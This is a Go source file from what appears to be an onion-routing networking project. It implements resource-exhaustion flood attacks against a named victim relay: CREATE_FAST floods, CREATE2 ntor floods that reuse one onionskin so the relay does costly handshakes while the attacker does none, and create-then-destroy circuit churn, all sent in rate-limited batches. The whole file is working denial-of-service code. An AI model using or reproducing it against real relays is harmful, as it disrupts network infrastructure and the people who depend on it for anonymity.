package flood

import (
	"context"
	"crypto/rand"

	"github.com/chivenet/chive/internal/cell"
	"github.com/chivenet/chive/internal/fault"
	"github.com/chivenet/chive/internal/handshake"
	"github.com/chivenet/chive/internal/ident"
	"github.com/chivenet/chive/internal/linkspec"
)

// batch is how many cells go into one write: as many as a record holds.
const batch = 31

// createFast asks for circuits by CREATE_FAST, and reads no answer.
func createFast(ctx context.Context, a *attack) error {
	var x cell.CreateFast
	return a.links(ctx, func(ctx context.Context, l *link) error {
		l.conn.Shut()
		return a.cells(ctx, l, func(dst []byte, id uint32) []byte {
			return cell.AppendFixed(dst, id, cell.CmdCreateFast, x.Append(nil))
		})
	})
}

// createNtor asks for circuits by ntor, and reads no answer. It uses one onionskin
// for all circuits: the relay must compute each handshake, and the attacker
// nothing.
func createNtor(ctx context.Context, a *attack) error {
	skin, err := a.onionskin()
	if err != nil {
		return err
	}
	return a.links(ctx, func(ctx context.Context, l *link) error {
		l.conn.Shut()
		return a.cells(ctx, l, func(dst []byte, id uint32) []byte {
			return cell.AppendFixed(dst, id, cell.CmdCreate2, skin)
		})
	})
}

// churn opens circuits and destroys each at once; answers are read.
func churn(ctx context.Context, a *attack) error {
	skin, err := a.onionskin()
	if err != nil {
		return err
	}
	return a.links(ctx, func(ctx context.Context, l *link) error {
		read := l.drop()
		defer func() { l.conn.Close(); <-read }()
		return a.cells(ctx, l, func(dst []byte, id uint32) []byte {
			dst = cell.AppendFixed(dst, id, cell.CmdCreate2, skin)
			return cell.AppendFixed(dst, id, cell.CmdDestroy, nil)
		})
	})
}

// onionskin is the body of a CREATE2 cell for the victim.
func (a *attack) onionskin() ([]byte, error) {
	_, skin, err := handshake.Ntor.Start(rand.Reader, &linkspec.Target{RelayID: ident.RelayID{RSA: a.Victim.RSA}, Ntor: a.Victim.Ntor}, nil)
	if err != nil {
		return nil, fault.Wrap(fault.Local, err)
	}
	m := cell.Create2{Type: cell.HandshakeNtor, Data: skin}
	return m.Append(nil), nil
}

// cells writes the cells that one makes, for circuit after circuit, until the link
// ends.
func (a *attack) cells(ctx context.Context, l *link, one func(dst []byte, id uint32) []byte) error {
	var buf []byte
	for id := uint32(1); a.rate.take(ctx, batch); {
		buf = buf[:0]
		for range batch {
			buf = one(buf, id|1<<31) // the initiator's half of the numbers
			id++
		}
		if err := l.write(buf); err != nil {
			return err
		}
		a.sent.Add(batch)
	}
	return context.Cause(ctx)
}
